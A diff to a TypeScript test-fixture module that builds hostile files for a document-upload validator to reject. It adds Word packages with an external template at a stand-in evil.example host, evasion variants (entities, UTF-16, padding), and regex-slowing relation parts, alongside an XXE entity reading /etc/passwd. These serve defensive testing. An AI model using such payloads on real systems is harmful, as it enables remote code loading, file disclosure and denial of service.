@@ -1,6 +1,7 @@
 /** Files that somebody would send to do harm: each is one lie away from a good one. Made here, so that no scanner finds them in the repository. */
+import { createHash } from "node:crypto";
 import { DIRECTORY_AT, linkOf, MORE_TABLE_AT, ole, ROOT, TABLE_AT, WORD, type OleEntry } from "./ole.ts";
-import { docx, DOCUMENT_PART, RELATIONS_PART, typed, TYPES_PART, zip } from "./zip.ts";
+import { docx, DOCUMENT_PART, RELATIONS_PART, typed, TYPES_PART, zip, type ZipPart } from "./zip.ts";
 
 export interface Hostile {
   what: string;
@@ -12,6 +13,12 @@ const MB = 1024 * 1024;
 const pdf = Buffer.from("%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n");
 const zeros = Buffer.alloc(MB);
 const relations = (target: string): Buffer => docx({ name: "word/_rels/settings.xml.rels", data: `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>` });
+
+/** Opens an element over and over, which a pattern that searches for its end takes seconds for; what hardly shrinks makes up for what shrinks too well. */
+const openings = (...names: string[]): ZipPart[] => [...names.map((name) => ({ name, data: `<Relationships>${"<Relationship ".repeat(18_500)}` })), { name: "word/media/a.png", data: Array.from({ length: 60 * names.length }, (_, index) => createHash("sha256").update(String(index)).digest("base64")).join(""), stored: true }];
+/** Eleven kilobytes that three patterns took ten seconds for. */
+export const busyDocx = (): Buffer => docx(...openings("word/_rels/a.rels", "word/_rels/b.rels", "word/_rels/c.rels"));
+const outside = (target: string): string => `<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="${target}"/></Relationships>`;
 
 const notPdfs = (): [string, Buffer][] => [
   ["a Windows program", Buffer.from("MZ\u0090\u0000 program")],
@@ -33,6 +40,9 @@ const notPdfs = (): [string, Buffer][] => [
   ["a Word document", ole()],
   ["a printer's job header that never ends", Buffer.concat([Buffer.from("\u001b%-12345X"), Buffer.from(" \r\n".repeat(400))])],
 ];
+
+/** 300 kB of relations that hardly shrink. */
+const noise = Array.from({ length: 3000 }, (_, index) => `<Relationship Id="${createHash("sha256").update(String(index)).digest("hex")}" Target="a"/>`).join("");
 
 const notDocx = (): [string, Buffer][] => [
   ["a plain archive", zip([{ name: "readme.txt", data: "hello" }])],
@@ -72,6 +82,14 @@ const notDocx = (): [string, Buffer][] => [
   ["entities that grow", docx({ name: "word/styles.xml", data: '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>' })],
   ["entities in its content types", typed((types) => types.replace("<Types", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><Types'))],
   ["a template from elsewhere", relations("https://evil.example/macro.dotm")],
+  ["a template from elsewhere, its address written in entities", docx({ name: "word/_rels/settings.xml.rels", data: outside("&#104;ttps://evil.example/macro.dotm") })],
+  ["a template from elsewhere, in UTF-16", docx({ name: "word/_rels/settings.xml.rels", data: Buffer.from(`\ufeff${outside("https://evil.example/macro.dotm")}`, "utf16le") })],
+  ["a template from elsewhere, past the first 256 kB", docx({ name: "word/_rels/settings.xml.rels", data: `<Relationships>${noise}${outside("https://evil.example/macro.dotm").slice(15)}` })],
+  ["a part that opens an element 18,500 times", docx(...openings("word/_rels/a.rels"))],
+  ["three of them", busyDocx()],
+  ["an encoding that no package may have", docx({ name: "word/styles.xml", data: '<?xml version="1.0" encoding="UTF-7"?><x/>' })],
+  ["entities that grow, in UTF-16", docx({ name: "word/styles.xml", data: Buffer.from('\ufeff<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>', "utf16le") })],
+  ["5 MB of relations", docx({ name: "word/_rels/a.rels", data: `<Relationships>${noise.repeat(17)}</Relationships>` })],
   ["something after its end", Buffer.concat([docx(), Buffer.from("MZ program")])],
   ["something before its beginning", zip([TYPES_PART, RELATIONS_PART, DOCUMENT_PART], { before: Buffer.from("MZ program") })],
   ["its second half missing", docx().subarray(0, 300)],
